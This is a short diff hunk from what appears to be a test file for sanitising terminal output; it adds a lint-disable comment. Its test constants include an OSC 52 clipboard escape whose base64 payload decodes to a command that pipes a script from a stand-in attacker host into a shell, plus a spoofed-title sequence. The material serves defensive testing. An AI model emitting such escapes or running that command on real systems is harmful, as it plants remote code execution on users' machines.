@@ -4,6 +4,7 @@ import { jsonLine, terminalText, TerminalStream } from "./terminal-text";
 const OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07";
 const OSC0 = "\x1b]0;pwned title\x07";
 const CLEAR = "\x1b[2J\x1b[H";
+/* eslint-disable no-control-regex -- the point of these tests */
 // Nothing that starts a sequence or is a control: ESC, CSI (8-bit), BEL, DEL, C1, a bare CR.
 const INERT = /^[^\x00-\x08\x0b-\x1f\x7f-\x9f]*$/;
 
